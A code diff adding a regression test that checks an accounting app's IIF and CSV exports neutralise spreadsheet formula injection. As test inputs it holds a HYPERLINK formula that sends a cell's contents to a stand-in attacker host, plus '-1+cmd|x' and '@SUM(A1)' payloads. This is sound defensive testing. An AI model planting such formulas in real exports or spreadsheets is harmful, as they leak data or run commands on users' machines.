@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import { isoDay } from '@hive/shared/schemas/backoffice/reports';
+import { toCsv } from '../src/backoffice/common';
 import { localTime, today } from '../src/time';
 import { api, assertValidation, companyId, db, parseCsv, signedIn, type ApiResult } from './admin-helpers';
 import { databaseTargets, startTestServer, type Client, type Json, type TestServer } from './helpers';
@@ -209,6 +210,55 @@ for (const target of databaseTargets()) {
           ['Accounts Receivable', '', '20.00'],
         ],
       );
+    });
+
+    it('IIF text cells that would run as formulas open as text; amounts stay numbers', async () => {
+      const customer = await api(grocer, 'POST', '/api/backoffice/customers', {
+        name: '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+        email: '',
+        phone: '',
+        notes: '',
+        points: 0,
+      });
+      ok(customer, 201);
+      const made = await api(grocer, 'POST', '/api/backoffice/customer_invoices', {
+        customerId: customer.body.id,
+        issueDate: to,
+        dueDate: to,
+        lines: [
+          {
+            itemId: null,
+            description: 'Formula customer',
+            quantityHundredths: 100,
+            unitPriceCents: 1_250,
+            discountCents: 0,
+            taxRateIds: [],
+          },
+        ],
+        discountCents: 0,
+        notes: '',
+      });
+      ok(made, 201);
+      const sent = await api(grocer, 'POST', `/api/backoffice/customer_invoices/${made.body.id}/send`, {});
+      ok(sent);
+      const iif = (await download(grocer, { kind: 'invoices', format: 'iif', from, to })).text
+        .split('\r\n')
+        .map((l) => l.split('\t'));
+      const rows = iif.filter((l) => (l[0] === 'TRNS' || l[0] === 'SPL') && l[7] === String(sent.body.number));
+      assert.ok(rows.length >= 2, 'the invoice is in the file');
+      for (const row of rows) {
+        // The NAME column: quoted, so a spreadsheet app shows it rather than running it.
+        assert.equal(row[5], "'=HYPERLINK( http://evil.example/?x= &A1, Open )");
+      }
+      // The credit to income is a negative amount, and a number: not quoted.
+      assert.deepEqual(
+        rows.map((r) => r[6]),
+        ['12.50', '-12.50'],
+      );
+      // The CSVs' helper, shared: a negative amount written as text (the tax summary's refunds) is
+      // still a number; a formula that merely starts like one is not.
+      const csv = toCsv([{ header: 'Tax', value: (v: string) => v }], ['-12.50', '-1+cmd|x', '@SUM(A1)']);
+      assert.deepEqual(parseCsv(csv).slice(1), [['-12.50'], ["'-1+cmd|x"], ["'@SUM(A1)"]]);
     });
 
     it('the tax summary and the preview agree with the file; bad periods are 400s', async () => {
